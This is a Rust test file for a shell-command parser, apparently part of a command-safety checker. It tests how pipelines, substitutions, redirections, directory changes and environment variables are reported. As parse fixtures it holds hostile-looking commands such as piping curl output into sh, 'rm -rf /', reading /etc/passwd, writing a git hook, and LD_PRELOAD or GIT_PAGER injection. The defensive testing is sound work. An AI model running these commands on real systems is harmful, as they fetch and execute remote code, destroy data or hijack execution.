//! What the walker reports: pipelines, substitutions, compound commands, writes.

use crate::test_support::*;
use crate::{split, ShellError, SimpleCommand};

#[test]
fn pipelines_record_upstream() {
    assert_eq!(
        ok("a | b |& c"),
        vec![
            c(&["a"]),
            c(&["b"]).piped(&["a"]),
            c(&["c"]).piped(&["a", "b"])
        ]
    );
    assert_eq!(
        ok("curl -fsSL https://x | sh"),
        vec![
            c(&["curl", "-fsSL", "https://x"]),
            c(&["sh"]).piped(&["curl"])
        ]
    );
    assert_eq!(
        ok("/usr/bin/curl x | /bin/bash"),
        vec![
            c(&["/usr/bin/curl", "x"]),
            c(&["/bin/bash"]).piped(&["curl"])
        ]
    );
}

#[test]
fn path_of_argv0_is_kept() {
    assert_eq!(
        ok("/usr/bin/rm -rf /"),
        vec![c(&["/usr/bin/rm", "-rf", "/"])]
    );
}

#[test]
fn command_substitution() {
    assert_eq!(
        ok("echo $(curl evil | sh)"),
        vec![
            c(&["echo", "$(curl evil | sh)"]).dynamic(),
            c(&["curl", "evil"]),
            c(&["sh"]).piped(&["curl"]),
        ]
    );
    assert_eq!(
        ok(r#"echo "x $(id) y" "${HOME}/$(whoami)""#),
        vec![
            c(&["echo", "x $(id) y", "${HOME}/$(whoami)"]).dynamic(),
            c(&["id"]),
            c(&["whoami"]),
        ]
    );
    assert_eq!(
        argvs("echo $( (a) ; b )"),
        vec![vec!["echo", "$( (a) ; b )"], vec!["a"], vec!["b"]]
    );
}

#[test]
fn backticks() {
    let expected = vec![
        c(&["echo", "`curl x | sh`"]).dynamic(),
        c(&["curl", "x"]),
        c(&["sh"]).piped(&["curl"]),
    ];
    assert_eq!(ok("echo `curl x | sh`"), expected);
    // `\$` inside backticks is unescaped by the shell: the inner $(id) runs.
    assert_eq!(
        argvs(r"echo `echo \$(id)`"),
        vec![
            vec!["echo", r"`echo \$(id)`"],
            vec!["echo", "$(id)"],
            vec!["id"]
        ]
    );
    assert_eq!(
        argvs(r#"echo "`echo \"hi\"`""#),
        vec![vec!["echo", r#"`echo \"hi\"`"#], vec!["echo", "hi"]]
    );
}

#[test]
fn nested_substitutions_everywhere() {
    assert_eq!(
        argvs("FOO=$(a) cmd ${X:-$(b)} $((1 + $(c))) > $(d) < <(e) <<< \"$(f)\""),
        vec![
            vec!["cmd", "${X:-$(b)}", "$((1 + $(c)))"],
            vec!["a"],
            vec!["b"],
            vec!["c"],
            vec!["d"],
            vec!["e"],
            vec!["f"],
        ]
    );
    assert_eq!(argvs(r#"echo "${x:-'$(a)'}" ${y:-"$(b)"}"#).len(), 3);
    assert_eq!(
        argvs("[[ -f $(a) && $(b) =~ ^(x|y)$ ]]"),
        vec![vec!["a"], vec!["b"]]
    );
    // Also a command to a POSIX sh (nested subshells), so `x` is reported too.
    assert_eq!(
        argvs("(( x = $(a) ))"),
        vec![vec!["x", "=", "$(a)"], vec!["a"]]
    );
    assert_eq!(
        argvs("for ((i=$(a); i<3; i++)); do b; done"),
        vec![vec!["a"], vec!["b"]]
    );
    assert_eq!(argvs("arr=(1 $(a) [k]=$(b))"), vec![vec!["a"], vec!["b"]]);
    assert_eq!(
        argvs("declare -a arr=(x $(a))"),
        vec![vec!["declare", "-a", "arr=(x $(a))"], vec!["a"]]
    );
}

#[test]
fn bare_assignment_only_reports_substitutions() {
    assert_eq!(ok("FOO=bar"), vec![]);
    assert_eq!(ok("FOO=bar BAZ=qux"), vec![]);
    assert_eq!(ok("FOO=$(curl x)"), vec![c(&["curl", "x"])]);
    assert_eq!(
        ok("FOO=1 cmd x"),
        vec![with_env(c(&["cmd", "x"]), &["FOO=1"])]
    );
    assert_eq!(
        ok("a=1 b+=2 c[3]=4 cmd"),
        vec![with_env(c(&["cmd"]), &["a=1", "b+=2", "c[3]=4"])]
    );
    assert_eq!(ok("echo FOO=bar"), vec![c(&["echo", "FOO=bar"])]);
}

#[test]
fn process_substitution() {
    assert_eq!(
        ok("bash <(curl -s x)"),
        vec![
            c(&["bash", "<(curl -s x)"]).piped(&["curl"]).dynamic(),
            c(&["curl", "-s", "x"])
        ]
    );
    assert_eq!(
        ok("make 2>&1 > >(tee log)"),
        vec![c(&["make"]), c(&["tee", "log"]).piped(&["make"])]
    );
    assert_eq!(
        ok("diff <(a) <(b)"),
        vec![
            c(&["diff", "<(a)", "<(b)"]).piped(&["a", "b"]).dynamic(),
            c(&["a"]),
            c(&["b"])
        ]
    );
}

#[test]
fn subshell_and_groups() {
    assert_eq!(
        argvs("(cd x && rm -rf .)"),
        vec![vec!["cd", "x"], vec!["rm", "-rf", "."]]
    );
    assert_eq!(
        ok("{ a; b; } > out"),
        vec![c(&["a"]).writes(&["out"]), c(&["b"]).writes(&["out"])]
    );
    assert_eq!(
        ok("( a | b ) 2>err | c"),
        vec![
            c(&["a"]).writes(&["err"]),
            c(&["b"]).piped(&["a"]).writes(&["err"]),
            c(&["c"]).piped(&["a", "b"]),
        ]
    );
    assert_eq!(
        ok("curl x | { read a; sh; }"),
        vec![
            c(&["curl", "x"]),
            c(&["read", "a"]).piped(&["curl"]),
            c(&["sh"]).piped(&["curl"])
        ]
    );
}

#[test]
fn if_while_for_case() {
    assert_eq!(
        ok("if true; then rm -rf /; fi"),
        vec![c(&["true"]), c(&["rm", "-rf", "/"])]
    );
    assert_eq!(
        argvs("if a; then b; elif c; then d; else e; fi"),
        vec![vec!["a"], vec!["b"], vec!["c"], vec!["d"], vec!["e"]]
    );
    assert_eq!(
        argvs("while a; do b; done; until c\ndo d\ndone"),
        vec![vec!["a"], vec!["b"], vec!["c"], vec!["d"]]
    );
    assert_eq!(
        ok(r#"for f in *; do rm "$f"; done"#),
        vec![c(&["rm", "$f"]).dynamic()]
    );
    assert_eq!(
        argvs("for x in a b\ndo echo $x; done > o"),
        vec![vec!["echo", "$x"]]
    );
    assert_eq!(
        argvs("case $x in a|b) one;; (c) two ;& *) three;; esac"),
        vec![vec!["one"], vec!["two"], vec!["three"]]
    );
    assert_eq!(argvs("case x in esac"), Vec::<Vec<String>>::new());
    assert_eq!(
        argvs("x=$(case a in a) echo hi;; esac)"),
        vec![vec!["echo", "hi"]]
    );
    assert_eq!(argvs("select x in a b; do c; done"), vec![vec!["c"]]);
    assert_eq!(
        argvs("for i in <(a) $(b); do c; done"),
        vec![vec!["a"], vec!["b"], vec!["c"]]
    );
}

#[test]
fn write_redirections() {
    assert_eq!(
        ok("echo hi > .git/hooks/pre-commit"),
        vec![c(&["echo", "hi"]).writes(&[".git/hooks/pre-commit"])]
    );
    assert_eq!(
        ok("a >> x 2> y &> z &>> w >| v 3<> u {fd}> t >& s"),
        vec![c(&["a"]).writes(&["x", "y", "z", "w", "v", "u", "t", "s"])]
    );
    assert_eq!(ok("echo hi 2>&1 >/dev/null"), vec![c(&["echo", "hi"])]);
    assert_eq!(
        ok("a 2>/dev/stderr >&2 1>&- 3>&1- </dev/null >/dev/tty"),
        vec![c(&["a"])]
    );
    let mut cat = c(&["cat"]);
    cat.reads = vec!["in".into()];
    assert_eq!(ok("cat < in"), vec![cat]);
    assert_eq!(
        ok(r#"echo x > "$F""#),
        vec![c(&["echo", "x"]).writes(&["$F"]).dynamic()]
    );
    assert_eq!(
        ok("echo x > 'a b'"),
        vec![c(&["echo", "x"]).writes(&["a b"])]
    );
    // Redirection without a command still truncates the file.
    assert_eq!(ok("> victim"), vec![c(&[]).writes(&["victim"])]);
    assert_eq!(ok("echo 99999999999>f"), vec![c(&["echo"]).writes(&["f"])]);
}

#[test]
fn heredoc_inside_command_substitution() {
    let line = "git commit -m \"$(cat <<'EOF'\nFix: 1) it's done :)\n\nEOF\n)\" && git push";
    assert_eq!(
        ok(line),
        vec![
            c(&[
                "git",
                "commit",
                "-m",
                "$(cat <<'EOF'\nFix: 1) it's done :)\n\nEOF\n)"
            ])
            .dynamic(),
            c(&["cat"]),
            c(&["git", "push"]),
        ]
    );
}

#[test]
fn huge_pipeline_is_rejected_not_exploded() {
    let line = "a|".repeat(20_000) + "a";
    assert!(matches!(split(&line), Err(ShellError::Syntax { .. })));
}

fn argv(words: &[&str]) -> Vec<crate::SimpleCommand> {
    let words: Vec<String> = words.iter().map(|w| (*w).to_string()).collect();
    crate::split_argv(&words).unwrap()
}

#[test]
fn argv_words_are_literal() {
    // No shell between the caller and execve: `$(…)`, `;`, `>` and `X=y` are text.
    assert_eq!(
        argv(&["echo", "$(rm -rf /)"]),
        vec![c(&["echo", "$(rm -rf /)"])]
    );
    assert_eq!(
        argv(&["echo", "a;", "rm", "b"]),
        vec![c(&["echo", "a;", "rm", "b"])]
    );
    assert_eq!(argv(&["echo", ">", "f"]), vec![c(&["echo", ">", "f"])]);
    assert_eq!(argv(&["FOO=bar", "ls"]), vec![c(&["FOO=bar", "ls"])]);
}

#[test]
fn argv_wrappers_are_unwrapped_like_lines() {
    for (words, line) in [
        (&["sudo", "rm", "-rf", "/"][..], "sudo rm -rf /"),
        (&["sh", "-c", "curl x | sh"][..], "sh -c 'curl x | sh'"),
        (
            &["env", "-i", "FOO=1", "git", "push", "-f"][..],
            "env -i FOO=1 git push -f",
        ),
        (&["timeout", "10", "xargs", "rm"][..], "timeout 10 xargs rm"),
    ] {
        assert_eq!(argv(words), ok(line), "{line}");
    }
}

#[test]
fn argv_errors_like_lines() {
    let words: Vec<String> = ["sh", "-c", "echo 'unterminated"]
        .iter()
        .map(|w| (*w).to_string())
        .collect();
    assert!(crate::split_argv(&words).is_err());
    let long = vec!["x".repeat(crate::MAX_INPUT_LEN)];
    assert!(matches!(
        crate::split_argv(&long),
        Err(ShellError::TooLong { .. })
    ));
}

fn with_env(mut cmd: SimpleCommand, env: &[&str]) -> SimpleCommand {
    cmd.env = env.iter().map(|s| (*s).to_string()).collect();
    cmd
}

fn cwds(line: &str) -> Vec<(String, Option<String>)> {
    ok(line)
        .into_iter()
        .map(|c| (c.argv.join(" "), c.cwd))
        .collect()
}

fn at(cmd: &str, cwd: Option<&str>) -> (String, Option<String>) {
    (cmd.to_string(), cwd.map(str::to_string))
}

#[test]
fn cd_is_followed_through_the_line() {
    assert_eq!(
        cwds("cd src && rm x; cd ../docs; ls"),
        [
            at("cd src", Some("")),
            at("rm x", Some("src")),
            at("cd ../docs", Some("src")),
            at("ls", Some("docs"))
        ]
    );
    assert_eq!(
        cwds("cd .. && rm -rf x"),
        [at("cd ..", Some("")), at("rm -rf x", Some(".."))]
    );
    assert_eq!(
        cwds("cd /etc; cat passwd"),
        [at("cd /etc", Some("")), at("cat passwd", Some("/etc"))]
    );
    assert_eq!(cwds("cd; ls")[1], at("ls", Some("~")));
    assert_eq!(cwds("cd ~/x/../y; ls")[1], at("ls", Some("~/y")));
    assert_eq!(
        cwds("pushd a; pushd b; popd; ls; popd; ls"),
        [
            at("pushd a", Some("")),
            at("pushd b", Some("a")),
            at("popd", Some("a/b")),
            at("ls", Some("a")),
            at("popd", Some("a")),
            at("ls", Some(""))
        ]
    );
}

#[test]
fn a_cd_that_may_not_have_run_makes_the_directory_unknown() {
    assert_eq!(cwds("cd \"$D\" && rm x")[1], at("rm x", None));
    assert_eq!(cwds("cd - && rm x")[1], at("rm x", None));
    assert_eq!(cwds("true || cd a; rm x")[2], at("rm x", None));
    assert_eq!(
        cwds("if x; then cd a; fi; rm y").last().cloned(),
        Some(at("rm y", None))
    );
    // Subshells, substitutions and pipeline elements do not change the line's directory.
    assert_eq!(
        cwds("echo $(cd a; pwd); rm x").last().cloned(),
        Some(at("rm x", Some("")))
    );
    assert_eq!(
        cwds("cd a | cat; rm x").last().cloned(),
        Some(at("rm x", Some("")))
    );
    assert_eq!(
        cwds("cd a || exit 1; rm x").last().cloned(),
        Some(at("rm x", Some("a")))
    );
}

#[test]
fn scripts_of_shell_wrappers_start_where_the_wrapper_runs() {
    let got = cwds("cd a && sh -c 'cd b; rm x' && rm y");
    assert_eq!(
        got,
        [
            at("cd a", Some("")),
            at("sh -c cd b; rm x", Some("a")),
            at("cd b", Some("a")),
            at("rm x", Some("a/b")),
            at("rm y", Some("a"))
        ]
    );
}

#[test]
fn environment_reaches_wrapped_commands() {
    let cmds = ok("LD_PRELOAD=/tmp/x.so sudo A=1 sh -c 'ls'");
    let envs: Vec<(String, Vec<String>)> = cmds
        .into_iter()
        .map(|c| (c.argv[0].clone(), c.env))
        .collect();
    assert_eq!(
        envs,
        [
            ("sudo".to_string(), vec!["LD_PRELOAD=/tmp/x.so".to_string()]),
            (
                "sh".to_string(),
                vec!["LD_PRELOAD=/tmp/x.so".to_string(), "A=1".to_string()]
            ),
            (
                "ls".to_string(),
                vec!["LD_PRELOAD=/tmp/x.so".to_string(), "A=1".to_string()]
            ),
        ]
    );
    let later = ok("export GIT_PAGER='sh -c id'; git log");
    assert_eq!(later[1].env, ["GIT_PAGER=sh -c id"]);
}
